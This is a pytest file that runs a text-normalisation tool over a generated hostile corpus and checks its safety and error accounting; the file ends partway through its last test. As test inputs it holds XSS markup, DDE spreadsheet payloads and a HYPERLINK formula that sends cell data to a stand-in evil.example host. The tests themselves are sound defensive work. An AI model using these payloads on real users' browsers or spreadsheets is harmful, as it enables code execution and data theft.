"""A hostile corpus through the real command line (`python -m normalize run IN OUT`).

One generated tree holds every kind of bad input a real corpus throws at the tool: binary files
named .txt, broken and legacy encodings, empty files, a deep tree, odd file names, symbolic links
(out of IN, broken, loops), files that cannot be read, malformed JSONL, corrupt gzip, CRLF line
endings, and document text written to attack the reviewer's browser and spreadsheet. One run over
it must finish, write every good document, record every bad one in errors.jsonl, keep its
accounting exact, and write nothing outside OUT. Separate runs cover a 50 MB line, a file that
changes while it is read, broken or hostile rules, and links planted inside OUT.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest

ROOT = Path(__file__).resolve().parent.parent
SECRET = "SECRET-OUTSIDE-IN-7f3a"  # text that lives outside IN and must never reach OUT


def cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "normalize", *map(str, args)], cwd=ROOT,
                          capture_output=True, timeout=timeout)


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def snapshot(root: Path) -> dict[str, str]:
    """Relative path -> content hash (or link target) of everything under ``root``."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = os.fsencode(p.relative_to(root)).hex()
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            elif not p.is_dir():
                out[rel] = "special"
    return out


def can_block_reads() -> bool:
    """False when chmod 000 does not stop this process reading (root, some containers)."""
    probe = Path(os.environ.get("TMPDIR", "/tmp")) / f"normalize-probe-{os.getpid()}"
    probe.write_text("x")
    try:
        probe.chmod(0)
        try:
            probe.read_text()
        except PermissionError:
            return True
        return False
    finally:
        probe.chmod(0o600)
        probe.unlink()


# -- the hostile tree ---------------------------------------------------------------------------
GOOD_JSON = {"id": 1, "text": "NATO ,  the Alliance", "lang": "zh-Hant", "title": "Ünïcødé “quotes” 日本語 🎉",
             "nested": {"a": [1, 2.5, {"b": None, "c": True}], "text": "not the text field ,  kept"}}
# written by hand so that the bytes that must survive are exactly these: a big int, floats in
# forms json.dumps would rewrite, escapes, odd spacing and key order
GOOD_JSON_RAW = ('{"id": 2,  "big": 123456789012345678901234567890123, "f": 1.50, "e": 1E400, "neg0": -0.0, '
                 '"esc": "caf\\u00e9 \\ud83c\\udf89 \\"q\\"", "text": "Second ,  record .", "z": [ ] }')
HUGE_INT = '{"text": "Digits ,  ahead.", "n": ' + "9" * 5000 + "}"

JSONL_LINES: list[bytes] = [
    json.dumps(GOOD_JSON, ensure_ascii=False).encode(),            # 1 good
    b"{not json",                                                  # 2 malformed
    b'{"id": 3}',                                                  # 3 no text field
    b"",                                                           # 4 blank: not a document
    b"[1, 2, 3]",                                                  # 5 not an object
    b'{"text": "caf\xe9 broken utf-8"}',                           # 6 invalid UTF-8
    GOOD_JSON_RAW.encode(),                                        # 7 good, bytes kept
    b"[" * 100000 + b"]" * 100000,                                 # 8 nested too deeply
    b'{"text": "lone \\ud800 surrogate"}',                         # 9 unpaired surrogate escape
    b"   ",                                                        # 10 blank
    HUGE_INT.encode(),                                             # 11 good: 5000-digit int kept
    b'{"text": "first", "text": "Last ,  wins"}',                  # 12 good: duplicate key
    b'{"text": 42}',                                               # 13 text not a string
    b'{"text": "CRLF line ,  ok"}\r',                              # 14 good, CRLF kept
]

HOSTILE_TEXT = (
    "The minister said <script>alert('xss')</script> nothing.\n\n"
    "Then </script><img src=x onerror=alert(1)><svg onload=alert(2)> appeared .\n\n"
    '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")\n\n'
    "+cmd|' /C calc'!A0\n\n"
    "-2+3+cmd|' /C calc'!A0\n\n"
    "@SUM(1+1)*cmd|' /C calc'!A0\n\n"
    "\tTabbed =1+1 cell\n\n"
    '<link rel="stylesheet" href="https://evil.example/x.css"><iframe src="http://evil.example/"></iframe>\n\n'
    "A link javascript:alert(3) and https://evil.example/track.png in text.\n\n"
    "Bidi \u202eevil\u202c and zero\u200bwidth and comb\u0301ining and ctrl\x07 here .\n"
)

N_DEEP = 60


def build(tmp: Path) -> SimpleNamespace:
    inp = tmp / "in"
    outside = tmp / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET)
    (outside / "dir").mkdir()
    (outside / "dir" / "inner.txt").write_text(SECRET)
    inp.mkdir()
    w = SimpleNamespace(inp=inp, outside=outside, good_txt=[], notes={})

    def txt(rel: str, data: bytes | str) -> Path:
        p = inp / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return p

    # binary with a text extension
    txt("binary/image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    txt("binary/noise.txt", bytes(range(1, 256)) * 40)  # no NUL byte at all
    txt("binary/gzip-named.txt", gzip.compress(b"NATO ,  the Alliance " * 50))
    # encodings
    txt("enc/utf8.txt", "Café “quoted” naïve ,  fine.\n")
    txt("enc/utf8-bom.txt", b"\xef\xbb\xbf" + "Zürich ,  said.\n".encode())
    txt("enc/cp1252.txt", "Caf\xe9 \x93quoted\x94 \x96 dash ,  here.\n".encode("latin-1"))
    txt("enc/latin1.txt", "Gr\xfc\xdfe aus K\xf6ln \x81 ,  und.\n".encode("latin-1"))
    txt("enc/invalid-utf8.txt", "Café “quoted” ,  naïve".encode() + b" \xff\xfe stray bytes.\n")
    txt("enc/utf16-bom.txt", "Kyiv ,  said “no”.\n".encode("utf-16"))
    txt("enc/utf16le-nobom.txt", "Warsaw ,  said “yes”.\n".encode("utf-16-le"))
    txt("enc/utf16be-nobom.txt", "Vilnius ,  said “maybe”.\n".encode("utf-16-be"))
    txt("enc/utf16-bom-odd.txt", b"\xff\xfe" + "Odd".encode("utf-16-le") + b"\x00")  # BOM, then half a char
    # empty and blank
    txt("empty/empty.txt", b"")
    txt("empty/blank.txt", "  \n\t\n   \r\n")
    txt("empty/empty.jsonl", b"")
    txt("empty/blank.jsonl", b"\n   \n\r\n")
    # a deep tree
    deep = "/".join(f"d{i:02d}" for i in range(N_DEEP))
    txt(f"{deep}/deep.txt", "Deep ,  down.\n")
    w.deep = f"{deep}/deep.txt"
    # odd names
    for rel in ("names/with space/a file.txt", "names/Zürich – “quoted”.txt", "names/日本語.txt",
                "names/=HYPERLINK(1).txt", "names/-rf.txt", "names/..dots...txt", "names/.hidden.txt",
                "names/" + "L" * 240 + ".txt", "names/new\nline.txt", "names/<img src=x onerror=alert(9)>.txt",
                "=SUM(A1).txt"):
        txt(rel, "Odd name ,  fine.\n")
        w.good_txt.append(rel)
    w.non_utf8 = None
    try:
        raw_name = os.fsencode(inp / "names") + b"/caf\xe9-latin1.txt"
        fd = os.open(raw_name, os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, b"Latin-1 name ,  here.\n")
        os.close(fd)
        w.non_utf8 = "names/caf\\xe9-latin1.txt"
    except (OSError, UnicodeError):  # the filesystem insists on UTF-8 names
        pass
    # symbolic links
    links = inp / "links"
    links.mkdir()
    (links / "inside.txt").symlink_to("../enc/utf8.txt")
    (links / "outside.txt").symlink_to(outside / "secret.txt")
    (links / "outside-rel.txt").symlink_to("../../outside/secret.txt")
    (links / "broken.txt").symlink_to("does-not-exist.txt")
    (links / "self.txt").symlink_to("self.txt")
    (links / "ping.txt").symlink_to("pong.txt")
    (links / "pong.txt").symlink_to("ping.txt")
    (links / "parent").symlink_to("..")
    (links / "outdir").symlink_to(outside / "dir")
    (links / "sibling").symlink_to("../enc")
    # files that cannot be read
    (inp / "special").mkdir()
    os.mkfifo(inp / "special" / "fifo.txt")
    (inp / "special" / "dir.txt").mkdir()
    (inp / "special" / "dir.txt" / "inner.txt").write_text("Inside a folder named .txt ,  fine.\n")
    locked = txt("special/locked.txt", "Locked ,  away.\n")
    locked.chmod(0)
    locked_dir = inp / "special" / "locked-dir"
    locked_dir.mkdir()
    (locked_dir / "hidden.txt").write_text("Behind a locked folder.\n")
    locked_dir.chmod(0)
    # JSONL, gzip
    txt("jsonl/mixed.jsonl", b"\n".join(JSONL_LINES) + b"\n")
    txt("jsonl/bom.jsonl", b"\xef\xbb\xbf" + json.dumps({"text": "BOM ,  first"}).encode() + b"\n")
    txt("jsonl/no-final-newline.jsonl", json.dumps({"text": "Last ,  line"}).encode())
    good_gz = gzip.compress(("\n".join(json.dumps({"id": i, "text": f"Line {i} ,  here."}) for i in range(50))
                             + "\n").encode())
    txt("gz/good.jsonl.gz", good_gz)
    big_gz = gzip.compress(("\n".join(json.dumps({"id": i, "text": f"Line {i} ,  here."}) for i in range(3000))
                            + "\n").encode())
    txt("gz/truncated.jsonl.gz", big_gz[: len(big_gz) // 2])
    txt("gz/not-gzip.jsonl.gz", b'{"text": "plain JSON in a .gz name"}\n')
    txt("gz/trailing-garbage.jsonl.gz", good_gz + b"GARBAGE")
    # CRLF and hostile text
    txt("crlf.txt", "Line one ,  here.\r\nLine two.\r\n\r\nThird “para” .\r\n")
    txt("hostile.txt", HOSTILE_TEXT)
    txt("jsonl/hostile.jsonl", json.dumps({"text": HOSTILE_TEXT, "url": "https://evil.example/"}) + "\n")
    # not inputs: ignored, not counted
    txt("ignored/readme.md", "not an input")
    txt("ignored/data.json", "{}")
    # an earlier run's audit trail inside IN is not read
    txt("_normalize/edits.jsonl", '{"file": "x"}\n')
    return w


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> SimpleNamespace:
    tmp = tmp_path_factory.mktemp("hostile")
    w = build(tmp)
    before_in, before_outside = snapshot(w.inp), snapshot(w.outside)
    out = tmp / "out"
    t0 = time.perf_counter()
    r = cli("run", w.inp, out, "--jobs", "2", "--threshold", "1", "--quiet", timeout=600)
    w.seconds = time.perf_counter() - t0
    # restore permissions so that pytest can clean up
    (w.inp / "special" / "locked.txt").chmod(0o644)
    (w.inp / "special" / "locked-dir").chmod(0o755)
    w.r, w.out, w.meta = r, out, out / "_normalize"
    w.in_unchanged = snapshot(w.inp) == before_in
    w.outside_unchanged = snapshot(w.outside) == before_outside
    assert r.returncode == 1, r.stderr.decode(errors="replace")[-3000:]
    w.summary = json.loads((w.meta / "summary.json").read_text())
    w.errors = read_jsonl(w.meta / "errors.jsonl")
    w.manifest = read_jsonl(w.meta / "manifest.jsonl")
    w.docs = read_jsonl(w.meta / "documents.jsonl")
    w.by_file: dict[str, list[dict]] = {}
    for e in w.errors:
        w.by_file.setdefault(e["file"], []).append(e)
    return w


def errors_of(w: SimpleNamespace, rel: str) -> list[dict]:
    return w.by_file.get(rel, [])


def kinds(w: SimpleNamespace, rel: str) -> list[str]:
    return [e["error"] for e in errors_of(w, rel)]


# -- the run as a whole ---------------------------------------------------------------------------
def test_run_finishes_and_writes_every_good_document(hostile):
    w = hostile
    assert w.seconds < 240, f"the hostile run took {w.seconds:.0f}s"
    assert w.in_unchanged, "the input tree was modified"
    for rel in ["enc/utf8.txt", "crlf.txt", "hostile.txt", w.deep, *w.good_txt]:
        assert (w.out / rel).is_file(), rel
    assert "Traceback" not in w.r.stderr.decode(errors="replace")
    assert not [e for e in w.errors if e["error"] == "internal"], "an internal error is a bug"


def test_binary_files_are_input_errors(hostile):
    for rel in ("binary/image.txt", "binary/noise.txt", "binary/gzip-named.txt"):
        assert kinds(hostile, rel) == ["input"], rel
        assert "binary" in errors_of(hostile, rel)[0]["message"]
        assert not (hostile.out / rel).exists()


def test_encodings_are_detected_and_recorded(hostile):
    enc = {d["file"]: d.get("encoding") for d in hostile.docs}
    assert enc["enc/utf8.txt"] == "utf-8"
    assert enc["enc/utf8-bom.txt"] == "utf-8-sig"
    assert enc["enc/cp1252.txt"] == "cp1252"
    assert enc["enc/latin1.txt"] == "latin-1"  # 0x81 is not a cp1252 character
    assert enc["enc/utf16-bom.txt"] == "utf-16-le"
    assert enc["enc/utf16le-nobom.txt"] == "utf-16-le"
    assert enc["enc/utf16be-nobom.txt"] == "utf-16-be"
    out = {rel: (hostile.out / rel).read_bytes().decode("utf-8") for rel in enc if rel.startswith("enc/")}
    assert out["enc/cp1252.txt"] == "Café “quoted” – dash, here.\n"
    assert out["enc/utf16-bom.txt"] == "Kyiv, said “no”.\n"
    assert out["enc/utf16be-nobom.txt"] == "Vilnius, said “maybe”.\n"
    assert out["enc/latin1.txt"].startswith("Grüße aus Köln")
    # documented decision: a file that is not valid UTF-8 is read as cp1252, or latin-1 where
    # cp1252 has no character (here: the 0x9D of ”), so no byte is dropped; the UTF-8 it
    # contained then reads as mojibake, which the encoding pass repairs
    assert enc["enc/invalid-utf8.txt"] == "latin-1"
    assert out["enc/invalid-utf8.txt"] == "Café “quoted”, naïve ÿþ stray bytes.\n"
    # a BOM that promises UTF-16 but does not decode is an input error
    assert kinds(hostile, "enc/utf16-bom-odd.txt") == ["input"]


def test_empty_and_blank_files(hostile):
    assert (hostile.out / "empty/empty.txt").read_bytes() == b""
    assert (hostile.out / "empty/blank.txt").is_file()
    for rel in ("empty/empty.jsonl", "empty/blank.jsonl"):
        assert (hostile.out / rel).read_bytes() == b""
        row = next(m for m in hostile.manifest if m["file"] == rel)
        assert (row["seen"], row["written"], row["failed"]) == (0, 0, 0)  # blank lines are not documents
    assert not errors_of(hostile, "empty/empty.txt") and not errors_of(hostile, "empty/blank.txt")


def test_deep_tree(hostile):
    assert (hostile.out / hostile.deep).read_text() == "Deep, down.\n"


def test_odd_file_names(hostile):
    for rel in hostile.good_txt:
        assert (hostile.out / rel).read_text() == "Odd name, fine.\n", rel
    if hostile.non_utf8 is None:
        pytest.skip("this filesystem does not allow a file name that is not UTF-8")
    # documented decision: such a file is not read; its name is recorded with \xNN escapes
    assert kinds(hostile, hostile.non_utf8) == ["skipped"]
    assert "not valid UTF-8" in errors_of(hostile, hostile.non_utf8)[0]["message"]


def test_symbolic_links_are_never_followed_out_of_in(hostile):
    w = hostile
    assert w.outside_unchanged
    for dirpath, _dirs, files in os.walk(w.out):
        for name in files:
            p = Path(dirpath) / name
            data = gzip.decompress(p.read_bytes()) if name.endswith(".gz") and p.stat().st_size else p.read_bytes()
            assert SECRET.encode() not in data, p
    # a link to a file inside IN is read, and written as a regular file
    assert (w.out / "links/inside.txt").read_text() == "Café “quoted” naïve, fine.\n"
    assert not (w.out / "links/inside.txt").is_symlink()
    expect = {
        "links/outside.txt": "outside the input directory",
        "links/outside-rel.txt": "outside the input directory",
        "links/broken.txt": "broken or loops",
        "links/self.txt": "broken or loops",
        "links/ping.txt": "broken or loops",
        "links/pong.txt": "broken or loops",
        "links/parent/": "loop",
        "links/outdir/": "outside the input directory",
        "links/sibling/": "not followed",
    }
    for rel, words in expect.items():
        errs = errors_of(w, rel)
        assert [e["error"] for e in errs] == ["skipped"], rel
        assert words in errs[0]["message"], (rel, errs[0]["message"])
        assert not (w.out / rel.rstrip("/")).exists(), rel
        # a link to a directory inside IN loses nothing (its files are read where they are): a
        # warning, not a failed document; the others are documents not read
        assert errs[0]["failed"] == (0 if rel in ("links/parent/", "links/sibling/") else 1), rel
    # files reached only through a link to a directory are read at their real place, once
    assert (w.out / "enc/utf8.txt").is_file()
    assert not any(m["file"].startswith(("links/parent/", "links/sibling/")) and not m["file"].endswith("/")
                   for m in w.manifest)


def test_unreadable_and_special_files(hostile):
    w = hostile
    errs = errors_of(w, "special/fifo.txt")
    assert [e["error"] for e in errs] == ["skipped"] and "not a regular file" in errs[0]["message"]
    # a folder named *.txt is a folder: its files are inputs
    assert (w.out / "special/dir.txt/inner.txt").read_text() == "Inside a folder named .txt, fine.\n"
    if not can_block_reads():
        pytest.skip("chmod 000 does not stop this user reading (root?): the FIFO stands in for an unreadable file")
    assert [e["error"] for e in errors_of(w, "special/locked.txt")] == ["skipped"]
    assert "cannot read" in errors_of(w, "special/locked.txt")[0]["message"]
    assert [e["error"] for e in errors_of(w, "special/locked-dir/")] == ["skipped"]
    assert "cannot list directory" in errors_of(w, "special/locked-dir/")[0]["message"]


def test_jsonl_bad_lines_recorded_good_lines_untouched(hostile):
    w = hostile
    errs = {e["line"]: e for e in errors_of(w, "jsonl/mixed.jsonl")}
    assert sorted(errs) == [2, 3, 5, 6, 8, 9, 13]
    assert all(e["error"] == "input" and e["failed"] == 1 for e in errs.values())
    assert errs[2]["raw"] == "{not json" and "invalid JSON" in errs[2]["message"]
    assert "nested too deeply" in errs[8]["message"]
    assert "surrogate" in errs[9]["message"]
    assert "no string field 'text'" in errs[13]["message"]
    lines = (w.out / "jsonl/mixed.jsonl").read_bytes().split(b"\n")
    assert lines[-1] == b""
    lines = lines[:-1]
    assert len(lines) == 5
    first = json.loads(lines[0])
    assert first == {**GOOD_JSON, "text": "NATO, the Alliance"}  # unicode and nested fields kept
    # every byte of a record but its text value is kept: numbers, escapes, spacing, key order
    assert lines[1].decode() == GOOD_JSON_RAW.replace('"Second ,  record ."', '"Second, record."')
    assert lines[2].decode() == HUGE_INT.replace("Digits ,  ahead.", "Digits, ahead.")
    assert lines[3].decode() == '{"text": "first", "text": "Last, wins"}'
    assert lines[4] == b'{"text": "CRLF line, ok"}\r'
    row = next(m for m in w.manifest if m["file"] == "jsonl/mixed.jsonl")
    assert (row["seen"], row["written"], row["failed"]) == (12, 5, 7)  # 14 lines, 2 blank
    assert (w.out / "jsonl/bom.jsonl").read_bytes() == b'\xef\xbb\xbf{"text": "BOM, first"}\n'
    assert (w.out / "jsonl/no-final-newline.jsonl").read_bytes() == b'{"text": "Last, line"}'


def test_corrupt_gzip(hostile):
    w = hostile
    with gzip.open(w.out / "gz/good.jsonl.gz", "rt") as fh:
        assert [json.loads(x)["text"] for x in fh][:2] == ["Line 0, here.", "Line 1, here."]
    for rel in ("gz/truncated.jsonl.gz", "gz/not-gzip.jsonl.gz", "gz/trailing-garbage.jsonl.gz"):
        errs = errors_of(w, rel)
        assert [e["error"] for e in errs] == ["input"], (rel, errs)
        assert "gzip" in errs[0]["message"] and "line" in errs[0]
        assert not (w.out / rel).exists(), "a file that fails midway is not written"
        row = next(m for m in w.manifest if m["file"] == rel)
        assert row["written"] == 0 and row["failed"] == row["seen"] == errs[0]["failed"] >= 1
    trunc = errors_of(w, "gz/truncated.jsonl.gz")[0]
    assert trunc["line"] > 1 and "none is written" in trunc["message"]


def test_crlf_line_endings_are_kept(hostile):
    data = (hostile.out / "crlf.txt").read_bytes()
    assert data == "Line one, here.\r\nLine two.\r\n\r\nThird “para”.\r\n".encode()


# -- output safety ------------------------------------------------------------------------------
class _Loads(HTMLParser):
    """Tags, and every attribute value that could make a browser fetch or run something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.fetching: list[str] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name in ("src", "href", "srcset", "action", "formaction", "data", "poster", "background") \
                    and value and not value.startswith(("#", "data:")):
                self.fetching.append(f"{tag} {name}={value}")


def test_report_escapes_document_text_and_loads_nothing(hostile):
    page = (hostile.meta / "report.html").read_text(encoding="utf-8")
    assert "alert(&#x27;xss&#x27;)" in page or "alert(\\u0027xss\\u0027)" in page or "alert('xss')" in page
    p = _Loads()
    p.feed(page)
    assert p.tags.count("script") == 2, "only the report's own data and code scripts"
    assert "img" not in p.tags and "svg" not in p.tags and "iframe" not in p.tags
    assert [t for t in p.tags if t == "link"] == ["link"]  # the data: favicon only
    assert p.fetching == [] and p.handlers == []
    # the hostile markup appears only escaped: never as a tag
    assert "<script>alert" not in page and "<img src=x" not in page and "<iframe src" not in page
    assert re.search(r"&lt;script&gt;alert\(", page), "the sentence is shown, as text"
    # nothing remote: no URL in CSS, no script or style source, a CSP that forbids the network
    assert not re.search(r"url\(\s*['\"]?(?:https?:)?//", page, re.I)
    assert not re.search(r"@import", page, re.I)
    assert "default-src 'none'" in page


def test_flags_csv_neutralises_formulas(hostile):
    with open(hostile.meta / "flags.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header[0] == "file" and body
    texts = [r[header.index("text")] for r in body]
    for needle in ("HYPERLINK(\"http://evil", "cmd|' /C calc'", "SUM(1+1)", "Tabbed =1+1"):
        assert any(needle in t for t in texts), f"{needle!r} was not flagged at --threshold 1"
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    files = {r[0] for r in body}
    assert "'=SUM(A1).txt" in files and "names/=HYPERLINK(1).txt" in files  # file names too, where they lead


def test_everything_written_is_under_out(hostile):
    w = hostile
    root = w.out.resolve()
    for dirpath, dirnames, filenames in os.walk(w.out):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            assert not p.is_symlink(), f"the run wrote a link: {p}"
            assert root in p.resolve().parents, p
    assert w.outside_unchanged and w.in_unchanged
    leftovers = [p for p in w.out.rglob("*.tmp")]
    assert leftovers == [], "temporary files left behind"


# -- accounting ------------------------------------------------------------------------------
def test_accounting_is_exact(hostile):
    w = hostile
    docs = w.summary["documents"]
    assert docs["seen"] == docs["written"] + docs["failed"]
    assert docs["failed"] > 0 and docs["written"] > 0
    # one manifest line per input file (and per skipped link or folder), in a fixed order
    files = [m["file"] for m in w.manifest]
    assert len(files) == len(set(files)) and files == sorted(files, key=files.index)
    assert not any(f.startswith(("ignored/", "_normalize/")) for f in files)
    assert "special/dir.txt/inner.txt" in files and "links/parent/" in files
    for key in ("seen", "written", "failed"):
        assert sum(m[key] for m in w.manifest) == docs[key], key
    for m in w.manifest:
        assert m["seen"] == m["written"] + m["failed"], m
        # every failed document is accounted for by errors.jsonl lines of its file
        assert sum(e["failed"] for e in errors_of(w, m["file"])) == m["failed"], (m, errors_of(w, m["file"]))
    for e in w.errors:
        assert e["file"] in files, e
        if e["file"].endswith((".jsonl", ".jsonl.gz")) and e["error"] not in ("skipped",):
            assert isinstance(e.get("line"), int), e
    assert w.summary["errors"]["total"] == len(w.errors)
    assert w.summary["files"]["seen"] == len(w.manifest)


# -- separate runs ---------------------------------------------------------------------------
def _sentences(n_bytes: int) -> str:
    s = ("The Polish president, Andrej Doubt, said NATO , under Section 5 , would defend every inch "
         "of allied territory. Ministers met in Vilnius on Tuesday to discuss the eastern flank. ")
    return (s * (n_bytes // len(s) + 1))[:n_bytes]


def test_a_50_mb_line_fails_fast_as_too_large(tmp_path):
    inp = tmp_path / "in"
    inp.mkdir()
    big = _sentences(50 * 1024 * 1024)
    (inp / "big.txt").write_text(big)
    with open(inp / "big.jsonl", "w") as fh:
        fh.write(json.dumps({"text": "Before ,  it."}) + "\n")
        fh.write(json.dumps({"text": big}) + "\n")
        fh.write(json.dumps({"text": "After ,  it."}) + "\n")
    (inp / "small.txt").write_text("NATO ,  the Alliance")
    del big
    out = tmp_path / "out"
    # the run in a wrapper that reports the peak memory of the run and its workers; without the
    # flagger (the big documents never reach it) a run needs about 80 MB: holding the 50 MB line
    # as bytes and as text would take it past 150 MB
    wrapper = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(r.returncode)")
    t0 = time.perf_counter()
    r = subprocess.run([sys.executable, "-c", wrapper, sys.executable, "-m", "normalize", "run", str(inp), str(out),
                        "-q", "--jobs", "2", "--no-flagger"], cwd=ROOT, capture_output=True, timeout=300)
    seconds = time.perf_counter() - t0
    assert r.returncode == 1, r.stderr.decode()[-2000:]
    assert seconds < 120, f"{seconds:.0f}s"
    peak_mb = int(r.stdout.split()[-1]) / 1024  # ru_maxrss is in KiB on Linux
    assert peak_mb < 150, f"peak memory {peak_mb:.0f} MB"
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e.get("line"), e["error"]) for e in errors] == [
        ("big.jsonl", 2, "too-large"), ("big.txt", None, "too-large")]
    assert "52428800 bytes" in errors[1]["message"]
    assert not (out / "big.txt").exists()
    assert [json.loads(x)["text"] for x in (out / "big.jsonl").read_text().splitlines()] == ["Before, it.", "After, it."]
    assert (out / "small.txt").read_text() == "NATO, the Alliance"
    summary = json.loads((out / "_normalize" / "summary.json").read_text())
    assert summary["documents"] == {"seen": 5, "written": 3, "failed": 2}


def test_unicode_line_separators_in_the_text_do_not_break_the_audit_trail(tmp_path):
    """U+2028, U+2029 and U+0085 (NEL) turn up in scraped text; JSON writes them as they are.
    An edit or flag holding one used to be cut in two when the part log was read back, and the
    run died assembling it."""
    inp = tmp_path / "in"
    inp.mkdir()
    text = ("Photo: Reuters\nThe the minister said\u2028 that that reform is is good very the.\n"
            "Andrej Doubt spoke\x85 in in Warsaw\u2029 on Monday monday.\n")
    (inp / "a.txt").write_text(text, encoding="utf-8")
    (inp / "b.jsonl").write_text(json.dumps({"id": 1, "text": text}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    r = cli("run", inp, out, "-q", "--jobs", "1")
    assert r.returncode == 0, r.stderr.decode()[-2000:]
    meta = out / "_normalize"
    flags = [json.loads(ln) for ln in (meta / "flags.jsonl").read_text(encoding="utf-8").split("\n") if ln]
    edits = [json.loads(ln) for ln in (meta / "edits.jsonl").read_text(encoding="utf-8").split("\n") if ln]
    assert {f["file"] for f in flags} == {"a.txt", "b.jsonl"}
    # (the NEL is windows-1252's "…" read as Latin-1: the edit that repairs it holds it)
    assert {e["file"] for e in edits if e["before"] == "\x85"} == {"a.txt", "b.jsonl"}
    summary = json.loads((meta / "summary.json").read_text(encoding="utf-8"))
    assert (summary["flags"]["total"], summary["edits"]["total"]) == (len(flags), len(edits))
    assert "Andrzej Duda" in (out / "a.txt").read_text(encoding="utf-8")


def test_a_long_line_below_the_limit_is_cleaned_in_linear_time(tmp_path):
    """A 1 MB single line goes through every pass and the flagger. The gazetteer pass used to be
    quadratic in such a line (minutes); now it takes seconds."""
    inp = tmp_path / "in"
    inp.mkdir()
    (inp / "long.txt").write_text(_sentences(1024 * 1024))
    out = tmp_path / "out"
    t0 = time.perf_counter()
    r = cli("run", inp, out, "-q", "--jobs", "1", timeout=400)
    seconds = time.perf_counter() - t0
    assert r.returncode == 0, r.stderr.decode()[-2000:]
    assert seconds < 150, f"{seconds:.0f}s for 1 MB"
    text = (out / "long.txt").read_text()
    assert "NATO, under Article 5," in text and "Andrzej Duda" in text and "\n" not in text


def test_a_file_changed_while_the_run_reads_it(tmp_path, monkeypatch):
    """The plan hashes a file that has a record, then a worker reads it: if it changed in
    between, the output is the cleaned bytes that were read, the part and manifest record their
    hash, errors.jsonl says so, and the next run reuses the result only while the file still
    holds those bytes. (A file without a record is not hashed by the plan, only by the worker,
    so there is nothing to differ: see test_a_new_file_is_hashed_by_the_worker_alone.)"""
    from normalize import runner
    from normalize.rules import RuleSet

    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    (inp / "a.txt").write_text("Old ,  text.")
    (inp / "b.jsonl").write_text(json.dumps({"text": "Old ,  line."}) + "\n")
    options = runner.RunOptions(rules=RuleSet.load(), jobs=1, quiet=True, flagger=False)
    runner.run(inp, out, options)
    (inp / "a.txt").write_text("Mid ,  text.")  # (so that the next plan hashes them)
    (inp / "b.jsonl").write_text(json.dumps({"text": "Mid ,  line."}) + "\n")
    real_plan = runner.plan

    def plan_then_rewrite(*args, **kw):
        yield from real_plan(*args, **kw)
        (inp / "a.txt").write_text("New ,  text, rewritten after it was hashed.")
        (inp / "b.jsonl").write_text(json.dumps({"text": "New ,  line."}) + "\n")

    monkeypatch.setattr(runner, "plan", plan_then_rewrite)
    res = runner.run(inp, out, options)
    assert res.exit_code == 0  # a warning, not a failure
    assert (out / "a.txt").read_text() == "New, text, rewritten after it was hashed."
    assert json.loads((out / "b.jsonl").read_text())["text"] == "New, line."
    manifest = {m["file"]: m for m in read_jsonl(out / "_normalize" / "manifest.jsonl")}
    for rel in ("a.txt", "b.jsonl"):
        assert manifest[rel]["sha256"] == hashlib.sha256((inp / rel).read_bytes()).hexdigest()
    errors = read_jsonl(out / "_normalize" / "errors.jsonl")
    assert [(e["file"], e["error"], e["failed"]) for e in errors] == [("a.txt", "changed", 0), ("b.jsonl", "changed", 0)]
    monkeypatch.setattr(runner, "plan", real_plan)
    # the file still holds the bytes that were read: reused
    again = runner.run(inp, out, options)
    assert again.summary["units"]["reused"] == 2
    # it changes after the run: redone
    (inp / "a.txt").write_text("Newer ,  text.")
    third = runner.run(inp, out, options)
    assert third.summary["units"]["done"] == 1 and (out / "a.txt").read_text() == "Newer, text."
    assert read_jsonl(out / "_normalize" / "errors.jsonl") == []


def test_a_new_file_changed_while_its_worker_reads_it(tmp_path, monkeypatch):
    """A first run's plan does not hash a file, so its worker compares the file's size and
    times when it opened it with those after reading it: a file written to meanwhile gets the
    `changed` warning, its record no identity (so the next run hashes it), and the next run
    redoes it, since it no longer holds the bytes that were read."""
    from normalize import runner
    from normalize.rules import RuleSet

    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    (inp / "a.txt").write_text("Old ,  text.", encoding="utf-8")
    real_open = runner._open_unit

    class Appended:  # the file is written to as soon as it has been read
        def __init__(self, fh, path):
            self.fh, self.path = fh, path

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def fileno(self):
            return self.fh.fileno()

        def read(self, n=-1):
            data = self.fh.read(n)
            if data:  # (its size changes, whatever its filesystem's clock)
                with open(self.path, "ab") as w:
                    w.write(b" More ,  text.")
            return data

    monkeypatch.setattr(runner, "_open_unit", lambda in_dir, unit: Appended(real_open(in_dir, unit), in_dir / unit.rel))
